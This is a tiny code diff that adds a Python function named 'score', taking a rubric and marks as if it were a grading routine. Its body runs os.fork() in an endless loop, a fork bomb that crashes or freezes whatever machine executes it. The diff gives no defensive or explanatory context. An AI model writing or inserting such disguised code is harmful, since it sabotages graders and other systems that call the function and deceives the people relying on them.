@@ -1,0 +1,5 @@
+# Forks without end.
+def score(rubric, marks):
+    import os
+    while True:
+        os.fork()
